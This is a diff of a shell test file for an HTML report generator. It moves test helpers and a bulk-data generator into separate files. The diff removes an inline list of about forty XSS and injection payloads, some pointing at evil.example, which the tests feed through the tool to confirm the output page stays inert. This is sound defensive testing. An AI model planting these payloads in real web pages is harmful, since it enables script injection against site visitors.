@@ -96,75 +96,15 @@ tables() {
 	[ "$stderr" = 'report: -F pdf: html, json or csv' ]
 }
 
-# with WORD: rows and tables that have it in every field that takes text
-with() {
-	local x=$1
-	for meta in title author site story url date lang; do
-		printf 'meta\tdoc%s\t0\t0\t0\t%s\t%s\t%s\n' "$x" $meta "$x" "$x"
-	done
-	printf 'sentence\tdoc%s\t1\t0\t9\tpara\t-\tFour people %s died.\n' "$x" "$x"
-	printf 'entity\tdoc%s\t1\t0\t4\tperson\t%s\tFour\n' "$x" "$x"
-	printf 'sentence\tb\t1\t0\t9\tpara\t-\tSix %s died.\n' "$x"
-	printf '1\tdiffer\tnumber:count:death%s\tdoc%s\t1\tFour (4 p%s)\tFour people %s died.\n' "$x" "$x" "$x" "$x"
-	printf '1\tdiffer\tnumber:count:death%s\tb\t1\tSix (6 p%s)\tSix %s died.\n' "$x" "$x" "$x"
-	printf '2\tagree\tplace:%s:%s\tdoc%s\t1\t%s\tFour people %s died.\n' "$x" "$x" "$x" "$x" "$x"
-	printf '2\tagree\tplace:%s:%s\tb\t1\t%s\tSix %s died.\n' "$x" "$x" "$x" "$x"
-}
-
 @test "a hostile corpus leaves an inert page, of the same elements as a harmless one" {
-	with harmless | "$CLAIMBIN/report" -C harmless | "$PAGE" -t >want
+	"$ROOT/tests/report/with" harmless | "$CLAIMBIN/report" -C harmless | "$PAGE" -t >want
 	[ "$(wc -l <want)" -gt 60 ]
 	while IFS= read -r payload; do
 		payload=$(printf '%b' "$payload")
-		with "$payload" | "$CLAIMBIN/report" -C "$payload" >page
+		"$ROOT/tests/report/with" "$payload" | "$CLAIMBIN/report" -C "$payload" >page
 		"$PAGE" -t <page >got || { printf '%s\n' "$payload"; false; }
 		diff want got || { printf '%s\n' "$payload"; false; }
-	done <<-'E'
-	<script>alert(1)</script>
-	</style><script>alert(1)</script>
-	</title><img src=x onerror=alert(1)>
-	"><svg onload=alert(1)>
-	' onmouseover='alert(1)
-	" style="background:url(//evil.example/x)
-	javascript:alert(1)
-	JaVaScRiPt:alert(1)
-	java&#115;cript:alert(1)
-	data:text/html,<script>alert(1)</script>
-	https://x.example/"onclick="alert(1)
-	https://x.example/<script>
-	vbscript:x
-	//evil.example/x
-	<!--
-	--><b>
-	<![CDATA[
-	]]>
-	<?php x ?>
-	&lt;script&gt;
-	&amp;lt;b&amp;gt;
-	&#x3c;b&#x3e;
-	&#0;&NewLine;&Tab;&colon;
-	expression(alert(1))
-	}</style><style>*{background:url(//evil.example)}
-	@import url(//evil.example/x.css);
-	\\u202eevil\\u202c \\u2066x\\u2069
-	\\u0085\\u009b31m
-	\\ufffe\\uffff\\ufdd0
-	{{constructor.constructor("alert(1)")()}}
-	${alert(1)}
-	<base href=//evil.example>
-	<meta http-equiv=refresh content=0;url=//evil.example>
-	<iframe srcdoc=x>
-	<a href=javascript:alert(1)>x</a>
-	<form action=//evil.example>
-	<plaintext>
-	<xmp>
-	<math><mi//xlink:href="data:x,<script>alert(1)</script>">
-	<details open ontoggle=alert(1)>
-	%3Cscript%3E
-	\\'+alert(1)+\\'
-	`alert(1)`
-	{} {unit} {text}
-	E
+	done <"$ROOT/tests/report/payloads"
 }
 
 @test "hostile articles come through the whole pipe as text" {
@@ -190,15 +130,10 @@ with() {
 }
 
 @test "a hundred articles: a page of some megabytes, within seconds, that says its limit" {
-	awk 'BEGIN { for (d = 1; d <= 100; d++) for (i = 1; i <= 60; i++) {
-		n = i % 3 == 0 ? 100 + (d % 7) : i
-		t = sprintf("In village%d the office counted %d boats of kind%d, it said on a day of that week.", i, n, i)
-		printf "sentence\ta%d.txt\t%d\t0\t%d\tpara\t-\t%s\n", d, i, length(t), t >"rows"
-		printf "%d\t%s\tnumber:count:kind%d\ta%d.txt\t%d\t%d (%d boat)\t%s\n", i, i % 3 == 0 ? "differ" : "agree", i, d, i, n, n, t >"all"
-	} }'
-	sort -t "$(printf '\t')" -k 1,1n -s all >slots
+	"$ROOT/tests/report/hundred" >both
+	grep '^[0-9]' both >slots
 	[ "$(wc -l <slots)" = 6000 ]
-	timeout "$SLOW" "$CLAIMBIN/report" -r rows slots >page
+	timeout "$SLOW" "$CLAIMBIN/report" both >page
 	[ "$(wc -c <page)" -lt 8000000 ]
 	"$PAGE" <page
 	[ "$(grep -o '<td class' page | wc -l)" -le 12000 ]
